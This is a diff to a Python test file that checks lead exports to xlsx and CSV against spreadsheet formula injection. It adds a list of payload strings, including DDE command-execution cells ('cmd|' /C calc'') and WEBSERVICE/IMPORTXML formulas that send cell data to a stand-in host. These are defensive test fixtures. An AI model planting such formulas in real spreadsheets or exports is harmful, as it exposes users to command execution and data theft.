@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import zipfile
 from collections.abc import Callable
@@ -14,6 +15,7 @@ from lobby.domain.errors import AccessRefused
 from lobby.domain.viewer import Viewer
 from lobby.services.downloads import Downloads, File
 from lobby.services.lead_export import export_leads
+from lobby.services.outbound import COLUMNS, as_csv
 from lobby.services.sources import Sources
 
 SignIn = Callable[[str], Viewer]
@@ -28,7 +30,20 @@ FORMULAS = (
     "＝1+1",
     '=HYPERLINK("http://x","y")',
     "=cmd|' /C calc'!A0",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://x/"&A1)',
+    '=IMPORTXML("http://x","//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    '="a"&"b"',
+    "{=1+1}",
+    "=1+1;=2+2",
+    '"=1+1"',
 )
+HEADINGS = ",".join(f'"{name}"' for name in COLUMNS) + "\r\n"
 SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
 
@@ -39,7 +54,7 @@ def made(
     return export_leads(sources, viewer, ("客户", "为什么"), rows, now, is_direct=is_direct, waiting=waiting)
 
 
-def test_no_cell_is_ever_a_formula_and_every_word_arrives(
+def test_f48_of_21_payloads_no_cell_is_a_formula_and_every_word_arrives(
     sources: Sources, signed_in: SignIn, now: datetime
 ) -> None:
     waiting = Downloads()
@@ -53,14 +68,14 @@ def test_no_cell_is_ever_a_formula_and_every_word_arrives(
     assert sheet.findall(f".//{SPACE}f") == []
     assert {cell.get("t") for cell in sheet.iter(f"{SPACE}c")} == {"s"}
     texts = ["".join(one.itertext()) for one in words.iter(f"{SPACE}si")]
-    assert texts[0] == "s3 郭静 2026-11-20 09:30"
+    assert texts[0] == "s3 郭静 ipad-1 2026-11-20 09:30"
     assert {one.strip() for one in FORMULAS} <= {one.replace("_x000D_", "").strip() for one in texts}
     footer = sheet.find(f".//{SPACE}oddFooter")
     assert footer is not None
-    assert footer.text == "&Ls3 郭静 2026-11-20 09:30"
+    assert footer.text == "&Ls3 郭静 ipad-1 2026-11-20 09:30"
 
 
-def test_it_is_in_the_audit_with_its_rows_and_its_sum(
+def test_f48_it_is_in_the_audit_with_its_rows_and_its_sum(
     sources: Sources, signed_in: SignIn, now: datetime
 ) -> None:
     made(sources, signed_in("s3"), now, Downloads())
@@ -93,3 +108,10 @@ def test_a_file_is_given_once_to_its_own_browser_and_in_time() -> None:
     waiting.keep(file, AT)
     waiting.keep(File("b.xlsx", b"y", "ipad-1", AT + timedelta(minutes=9)), AT + timedelta(minutes=5))
     assert [one.name for one in waiting.files.values()] == ["b.xlsx"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_f48_a_cell_of_a_list_is_no_formula_and_keeps_its_words(text: str) -> None:
+    (cell,) = next(csv.reader(io.StringIO(as_csv([(text,)])[len(HEADINGS) :])))
+    assert cell.removeprefix("'") == text
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))
